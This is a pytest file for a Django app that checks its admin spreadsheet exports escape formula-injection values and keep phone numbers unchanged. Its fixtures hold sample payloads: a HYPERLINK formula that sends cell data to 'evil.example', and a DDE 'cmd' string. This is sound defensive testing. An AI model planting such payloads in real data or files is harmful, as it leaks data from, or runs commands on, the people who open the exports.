"""Formula injection through the admin's spreadsheet exports (issue 15, item 4).

The attack: an editor (or an imported archive) puts "=HYPERLINK(...)" in a person's
role, a hotline's note, an office's name or a key figure's label; another staff member
exports the sheet from the admin and opens it. The exported XLSX must hold no formula
cell and the CSV no cell a spreadsheet reads as a formula, while phone numbers
("+996 ...") come out exactly as stored.
"""

import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import escape_formula
from directory.models import Hotline, Office, Person
from newsletters.models import KeyFigure
from tests.factories import make_country, make_issue

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
OTHER_STARTS = ["+SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)"]
PHONE = "+996 555 12 34 56"
FORMATS = {"csv": 0, "xlsx": 1}  # their positions in the admins' `formats`


@pytest.fixture
def rows():
    kg = make_country("KG", "Kyrgyzstan")
    Person.objects.create(name="Aida", role=ATTACK, country=kg, phones=PHONE, email="a@example.org")
    Person.objects.create(name=OTHER_STARTS[0], role=OTHER_STARTS[1], country=kg,
                          phones=OTHER_STARTS[2], email="b@example.org")  # fmt: skip
    Hotline.objects.create(country=kg, number=PHONE, note=ATTACK)
    Office.objects.create(country=kg, name=ATTACK, website="")
    KeyFigure.objects.create(issue=make_issue(), label=ATTACK, value=-5, unit="@people")


def export(staff_client, model: str, fmt: str) -> bytes:
    app = "newsletters" if model == "keyfigure" else "directory"
    url = reverse(f"admin:{app}_{model}_export")
    form = staff_client.get(url).context["form"]
    data = {"format": FORMATS[fmt], "resource": 0}
    chosen = set(form.fields) - {"format", "resource", "export_items"}
    data.update(dict.fromkeys(chosen, "on"))
    response = staff_client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    assert "attachment" in response["Content-Disposition"]
    return response.content


@pytest.mark.parametrize("model", ["person", "hotline", "office", "keyfigure"])
def test_xlsx_export_has_no_formula_cells(staff_client, rows, model):
    book = load_workbook(io.BytesIO(export(staff_client, model, "xlsx")))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert ATTACK in texts  # kept whole, as text
    if model in ("person", "hotline"):
        assert PHONE in texts


@pytest.mark.parametrize("model", ["person", "hotline", "office", "keyfigure"])
def test_csv_export_has_no_formula_cells(staff_client, rows, model):
    text = export(staff_client, model, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    # Only digits and punctuation after a + or -: arithmetic at most, no function call.
    harmless = re.compile(r"[+-][0-9 ()./\-\n]+")
    starts = ("=", "+", "-", "@", "\t", "\r")
    live = [c for c in cells if c.startswith(starts) and not harmless.fullmatch(c)]
    assert live == []
    assert f"'{ATTACK}" in cells
    if model == "person":
        assert {f"'{s}" for s in OTHER_STARTS} <= set(cells)
    if model in ("person", "hotline"):
        assert PHONE in cells  # usable: no apostrophe
    if model == "keyfigure":
        assert "-5" in cells and "'@people" in cells


@pytest.mark.parametrize(
    "value, expected",
    [
        ("+996 (312) 61-00-00", "+996 (312) 61-00-00"),
        ("+7 700 000 0101\n+7 700 000 0102", "+7 700 000 0101\n+7 700 000 0102"),
        ("-12", "-12"),  # a number stays a number
        ("-1.5", "-1.5"),
        ("-12+A1", "'-12+A1"),
        ("+1+HYPERLINK(2)", "'+1+HYPERLINK(2)"),
        ("\t=1", "'\t=1"),
        ("plain", "plain"),
        (42, 42),
    ],
)
def test_escape_formula(value, expected):
    assert escape_formula(value) == expected
